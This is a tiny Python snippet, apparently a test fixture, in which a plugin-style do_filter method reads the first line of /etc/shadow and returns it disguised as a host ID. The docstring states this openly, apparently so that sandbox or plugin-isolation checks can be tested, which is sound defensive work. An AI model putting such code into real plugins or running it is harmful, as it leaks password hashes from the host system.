"""Tries to read /etc/shadow and return its first line as a host ID."""


class P:
    def do_filter(self, hosts, vm, args):
        return hosts + [open("/etc/shadow").readline()]
